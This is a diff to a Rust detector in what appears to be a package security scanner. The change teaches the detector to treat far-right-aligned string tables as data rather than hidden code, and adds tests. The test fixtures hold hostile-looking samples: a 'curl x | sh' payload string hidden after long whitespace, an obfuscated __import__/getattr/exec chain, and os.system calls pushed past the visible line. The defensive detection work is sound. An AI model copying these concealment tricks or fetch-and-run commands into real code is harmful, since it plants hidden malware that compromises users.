@@ -6,7 +6,9 @@
 //! exec/eval/`__import__`), and many distinct non-ASCII identifiers in code that also
 //! evaluates code (`exec`, `eval`, `__import__`: high; `getattr`/`globals()` only:
 //! medium). Localized identifiers in plain code, aligned comments, whitespace inside
-//! strings, minified data tables and `.pth` one-liners are not hidden code.
+//! strings, string entries of a table aligned far right (literals, numbers and separators
+//! only, no literal that reads as code), minified data tables and `.pth` one-liners are
+//! not hidden code.
 //!
 //! Weighed by place: install time one step up, tests/docs at most medium, data low.
 //! Python code only; token-wise (the lexer), so files that do not parse are scanned too.
@@ -21,7 +23,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "obfuscation.hidden-code",
-    revision: 1,
+    revision: 2,
     title: "Hides code from view.",
     category: Category::Obfuscation,
     severity: Severity::High,
@@ -50,6 +52,46 @@ static EVALUATES: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?-u:\b)(?:exec|eval|compile)\s*\(|__import__").expect("evaluates"));
 static REFLECTS: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?-u:\b)(?:getattr|setattr|globals|vars)\s*\(").expect("reflects"));
+
+/// Whether the rest of the line from `at` (after a run of whitespace) is only string
+/// literals, numbers, brackets and the punctuation that separates table entries (`,` `:`),
+/// no name, and no literal whose body reads as code that runs something: an entry of a
+/// translation table, a dict aligned far right, the closing brackets of a nested table.
+/// Hidden code is code; a literal that is only listed runs nothing (a payload string pushed
+/// out of sight, or a name or call after the run, still counts).
+fn only_data(src: &pysrc::Source<'_>, t: &str, mut at: usize) -> bool {
+    while at < t.len() {
+        match src.span_at(at) {
+            Some(span) if span.kind == Kind::Str => {
+                if RUNS_CODE.is_match(&t[span.body_start..span.body_end]) {
+                    return false;
+                }
+                at = span.end;
+            }
+            Some(span) if span.kind == Kind::Comment => at = span.end,
+            Some(_) => return false,
+            None => match t.as_bytes()[at] {
+                b'\n' => break,
+                b' '
+                | b'\t'
+                | b'\r'
+                | b','
+                | b':'
+                | b'('
+                | b')'
+                | b'['
+                | b']'
+                | b'{'
+                | b'}'
+                | b'.'
+                | b'-'
+                | b'0'..=b'9' => at += 1,
+                _ => return false,
+            },
+        }
+    }
+    true
+}
 
 fn columns(run: &str) -> usize {
     run.bytes().map(|b| if b == b'\t' { 8 } else { 1 }).sum()
@@ -103,6 +145,9 @@ impl HiddenCode {
             }
             if !src.is_code(start) || !matches!(src.kind_at(i), Kind::Code | Kind::Str) {
                 continue;
+            }
+            if only_data(src, t, i) {
+                continue; // a literal in a table aligned far right: data, not code
             }
             let at_line_start = start == 0 || b[start - 1] == b'\n';
             if at_line_start {
@@ -317,6 +362,14 @@ mod tests {
         let cjk_obf = "甲 = __import__\n乙 = 甲('os')\n丙 = 'sys' + 'tem'\n丁 = getattr(乙, 丙)\n戊 = 1\n己 = 2\n庚 = 3\n辛 = 4\n壬 = exec\n壬('x')\n";
         let cjk_plain = "def 计算(数量, 单价):\n    总价 = 数量 * 单价\n    折扣 = 0.9\n    税率 = 0.1\n    运费 = 5\n    小计 = 总价 * 折扣\n    合计 = 小计 * (1 + 税率) + 运费\n    return 合计\n";
         let py2 = format!("print 'installing'{pad}; import os; os.system('id')\n");
+        let wide = " ".repeat(221);
+        let i18n_table = format!(
+            "TR = {{\n 'Downloads start only when asked.': '仅在请求时下载。'\n{wide}'Cheetah '\n{wide}'模型包。',\n 'Invalid': '无效',\n}}\n"
+        );
+        let closing_brackets = format!("SPEC = ((1, (2, (3, 'a'\n{pad})))), (8, ')'))\n");
+        let dict_aligned = format!("NAMES = {{'a': 1,{pad}'b': 2,{pad}'c': 'three'}}  # aligned\n");
+        let hidden_payload = format!("TR = [\n 'a'\n{wide}'import os; os.system(\"curl x | sh\")',\n]\n");
+        let call_after_literal = format!("x = 1\n{pad}'payload'.join(p); exec(x)\n");
         let cases: Vec<(&str, &str, FileRole, &str, Want)> = vec![
             (
                 "pushed past the line in setup.py",
@@ -375,7 +428,30 @@ mod tests {
                 &leading,
                 Some((2, "code after 200 columns of whitespace", Medium)),
             ),
+            (
+                "a payload string pushed out of sight in a table",
+                "pkg/a.py",
+                Runtime,
+                &hidden_payload,
+                Some((3, "code after 221 columns of whitespace", High)),
+            ),
+            (
+                "a call after a literal pushed out of sight",
+                "pkg/a.py",
+                Runtime,
+                &call_after_literal,
+                Some((2, "code after 200 columns of whitespace", High)),
+            ),
             // benign look-alikes
+            ("translation strings continued after 221 columns", "pkg/gui/i18n.py", Runtime, &i18n_table, None),
+            ("dict entries aligned far right", "pkg/a.py", Runtime, &dict_aligned, None),
+            (
+                "closing brackets of a nested table aligned far right",
+                "guppy/heapy/Spec.py",
+                Runtime,
+                &closing_brackets,
+                None,
+            ),
             ("far comment", "pkg/a.py", Runtime, &aligned_comment, None),
             ("whitespace in a string", "pkg/a.py", Runtime, &in_string, None),
             ("trailing whitespace", "pkg/a.py", Runtime, &trailing, None),
